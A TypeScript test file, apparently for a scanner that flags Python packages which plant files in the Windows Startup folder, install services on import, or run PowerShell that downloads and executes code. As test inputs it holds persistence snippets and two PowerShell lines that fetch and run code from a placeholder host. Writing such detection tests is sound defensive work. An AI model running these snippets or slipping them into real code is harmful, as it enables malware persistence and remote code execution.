import { expect, test } from 'vitest';
import writesSystemPaths from '../../src/rules/writes-system-paths.js';
import { commandTraits } from '../../src/python/vocabulary/commands.js';
import { read } from './reading.js';

async function severities(text: string): Promise<readonly string[]> {
  const { facts } = await read(text);
  return facts === null ? [] : writesSystemPaths.check(facts).map(({ severity }) => severity);
}

test.each([
  ['the shell of Windows', 'import winshell, os\nopen(os.path.join(winshell.startup(), "leaf.bat"), "w").write("leaf")\n'],
  ['a number of the shell', 'import os\nfrom win32com.shell import shell, shellcon\nd = shell.SHGetFolderPath(0, shellcon.CSIDL_STARTUP, None, 0)\nopen(os.path.join(d, "leaf.bat"), "w").write("leaf")\n'],
  ['its script host', 'import os, win32com.client\nd = win32com.client.Dispatch("WScript.Shell").SpecialFolders("Startup")\nopen(os.path.join(d, "leaf.bat"), "w").write("leaf")\n'],
  ['a shortcut there', 'import winshell, os\nwith winshell.shortcut(os.path.join(winshell.startup(), "leaf.lnk")) as s:\n    s.path = "leaf.exe"\n'],
])('what is put where %s says that programs start from takes root', async (_, text) => {
  expect(await severities(text)).toContain('critical');
});

test('a service that is installed on import takes root', async () => {
  expect(await severities('import win32serviceutil\nwin32serviceutil.InstallService("garden.svc.S", "Garden", "Garden")\n')).toContain('critical');
});

test.each([
  ['another folder of Windows', 'import winshell, os\nopen(os.path.join(winshell.my_documents(), "leaf.txt"), "w").write("leaf")\n'],
  ['the folder of programs', 'import os\nfrom win32com.shell import shell, shellcon\nopen(os.path.join(shell.SHGetFolderPath(0, shellcon.CSIDL_PERSONAL, None, 0), "leaf.txt"), "w").write("leaf")\n'],
])('what is put into %s does not', async (_, text) => {
  expect(await severities(text)).toEqual([]);
});

test('a service that somebody installs by a call is an installer of theirs', async () => {
  expect(await severities('import win32serviceutil\ndef install():\n    win32serviceutil.InstallService("garden.svc.S", "Garden", "Garden")\n')).toEqual(['low']);
});

test.each(['powershell -Command Add-Type -TypeDefinition (iwr https://o.example.invalid/x.cs).Content; [X]::Run()', "powershell -c [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://o.example.invalid/x'))"])('what is compiled or loaded out of a reply runs: %s', (line) => {
  expect(commandTraits(line)).toContain('fetches-and-runs');
});

test.each(['powershell -Command Add-Type -AssemblyName System.Windows.Forms', "powershell -c [Reflection.Assembly]::Load('System.Web')"])('what lies here does not: %s', (line) => {
  expect(commandTraits(line)).not.toContain('fetches-and-runs');
});

const made = (words: string): string => `import sys, win32serviceutil\nwin32serviceutil.InstallService(None, "Garden", "Garden", exeName=sys.executable${words})\n`;

test('a service that starts the program which makes it, and tells it nothing, is that of a packed program; with words for it, it is one of somebody else', async () => {
  expect(await severities(made(''))).not.toContain('critical');
  expect(await severities(made(', exeArgs="-m garden"'))).toContain('critical');
});
